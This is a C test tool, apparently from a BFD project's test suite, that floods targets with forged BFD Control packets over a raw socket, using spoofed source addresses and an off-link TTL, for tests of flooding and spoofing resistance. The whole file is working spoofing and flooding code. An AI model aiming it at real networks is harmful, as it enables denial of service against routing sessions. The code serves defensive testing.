/*
 * Copyright (c) 2026 odl-bfd authors and others.  All rights reserved.
 *
 * This program and the accompanying materials are made available under the
 * terms of the Eclipse Public License v1.0 which accompanies this distribution,
 * and is available at http://www.eclipse.org/legal/epl-v10.html
 */

/*
 * Spoofed BFD Control packet flooder for FloodIT and SpoofIT (test tool, compiled by the test with
 * gcc; run only inside the test's own network namespaces). Raw IPv4 socket with our own headers,
 * so the source address is whatever the test says (the real peer's) and the TTL is 64: what an
 * off-link attacker can send. sendmmsg batches of 64 as fast as the machine allows, for a time or
 * a count, then prints "SENT <n>" and exits.
 *
 *   flooder SECONDS COUNT TARGETS_FILE
 *     SECONDS: stop after this many seconds (0: no limit); COUNT: after this many packets (0: none)
 *     TARGETS_FILE: lines "SRC DST DPORT YOURDISCR" (YOURDISCR: a number, 0, or "random"),
 *     used round-robin.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_TARGETS 4096
#define BATCH 64
#define PKT 52 /* 20 IP + 8 UDP + 24 BFD */

struct target { uint32_t src, dst; uint16_t port; int random; uint32_t your; };

static uint16_t ip_checksum(const uint8_t *hdr)
{
    uint32_t sum = 0;
    for (int i = 0; i < 20; i += 2) {
        sum += (uint32_t) (hdr[i] << 8 | hdr[i + 1]);
    }
    while (sum >> 16) {
        sum = (sum & 0xFFFF) + (sum >> 16);
    }
    return (uint16_t) ~sum;
}

static void build(uint8_t *p, const struct target *t, uint32_t your, uint32_t my)
{
    memset(p, 0, PKT);
    p[0] = 0x45;
    p[2] = 0; p[3] = PKT;
    p[8] = 64;          /* TTL: what crossed a router, or came from off-link */
    p[9] = IPPROTO_UDP;
    memcpy(p + 12, &t->src, 4);
    memcpy(p + 16, &t->dst, 4);
    uint16_t sum = ip_checksum(p);
    p[10] = (uint8_t) (sum >> 8); p[11] = (uint8_t) sum;
    uint8_t *u = p + 20;
    u[0] = 49152 >> 8; u[1] = 49152 & 0xFF;
    u[2] = (uint8_t) (t->port >> 8); u[3] = (uint8_t) t->port;
    u[4] = 0; u[5] = 32;  /* UDP length; checksum 0 (none, allowed for IPv4) */
    uint8_t *b = u + 8;
    b[0] = 0x20;          /* version 1, diag 0 */
    b[1] = 0x40;          /* state Down */
    b[2] = 3;             /* detect mult */
    b[3] = 24;
    uint32_t n = htonl(my); memcpy(b + 4, &n, 4);
    n = htonl(your); memcpy(b + 8, &n, 4);
    n = htonl(100000); memcpy(b + 12, &n, 4); memcpy(b + 16, &n, 4);
}

int main(int argc, char **argv)
{
    if (argc != 4) {
        fprintf(stderr, "usage: flooder SECONDS COUNT TARGETS_FILE\n");
        return 2;
    }
    double seconds = atof(argv[1]);
    long count = atol(argv[2]);
    FILE *f = fopen(argv[3], "r");
    if (f == NULL) {
        perror("targets");
        return 2;
    }
    static struct target targets[MAX_TARGETS];
    int n = 0;
    char src[64], dst[64], your[32];
    unsigned port;
    while (n < MAX_TARGETS && fscanf(f, "%63s %63s %u %31s", src, dst, &port, your) == 4) {
        struct in_addr a, d;
        if (inet_pton(AF_INET, src, &a) != 1 || inet_pton(AF_INET, dst, &d) != 1) {
            fprintf(stderr, "bad line %s %s\n", src, dst);
            return 2;
        }
        targets[n].src = a.s_addr;
        targets[n].dst = d.s_addr;
        targets[n].port = (uint16_t) port;
        targets[n].random = strcmp(your, "random") == 0;
        targets[n].your = targets[n].random ? 0 : (uint32_t) strtoul(your, NULL, 10);
        n++;
    }
    fclose(f);
    if (n == 0) {
        fprintf(stderr, "no targets\n");
        return 2;
    }
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (fd < 0) {
        perror("socket(SOCK_RAW)");
        return 1;
    }
    static uint8_t pkts[BATCH][PKT];
    struct mmsghdr msgs[BATCH];
    struct iovec iov[BATCH];
    struct sockaddr_in to[BATCH];
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    uint32_t rng = 0x2545F491u ^ (uint32_t) start.tv_nsec;
    long sent = 0, refused = 0;
    int next = 0;
    for (;;) {
        int batch = BATCH;
        if (count > 0 && count - sent < batch) {
            batch = (int) (count - sent);
        }
        for (int i = 0; i < batch; i++) {
            const struct target *t = &targets[next];
            next = (next + 1) % n;
            rng ^= rng << 13; rng ^= rng >> 17; rng ^= rng << 5;
            build(pkts[i], t, t->random ? rng | 1 : t->your, rng ^ 0x5A5A5A5A);
            memset(&to[i], 0, sizeof(to[i]));
            to[i].sin_family = AF_INET;
            to[i].sin_addr.s_addr = t->dst;
            iov[i].iov_base = pkts[i];
            iov[i].iov_len = PKT;
            memset(&msgs[i], 0, sizeof(msgs[i]));
            msgs[i].msg_hdr.msg_name = &to[i];
            msgs[i].msg_hdr.msg_namelen = sizeof(to[i]);
            msgs[i].msg_hdr.msg_iov = &iov[i];
            msgs[i].msg_hdr.msg_iovlen = 1;
        }
        int got = sendmmsg(fd, msgs, (unsigned) batch, 0);
        if (got < 0) {
            if (errno != ENOBUFS && errno != EAGAIN && errno != EINTR) {
                perror("sendmmsg");
                return 1;
            }
            refused += batch;
            got = 0;
        }
        sent += got;
        if (count > 0 && sent >= count) {
            break;
        }
        if (seconds > 0) {
            clock_gettime(CLOCK_MONOTONIC, &now);
            if ((now.tv_sec - start.tv_sec) + (now.tv_nsec - start.tv_nsec) / 1e9 >= seconds) {
                break;
            }
        }
    }
    clock_gettime(CLOCK_MONOTONIC, &now);
    double elapsed = (now.tv_sec - start.tv_sec) + (now.tv_nsec - start.tv_nsec) / 1e9;
    printf("SENT %ld REFUSED %ld SECONDS %.3f PPS %.0f\n", sent, refused, elapsed, sent / (elapsed > 0 ? elapsed : 1));
    close(fd);
    return 0;
}
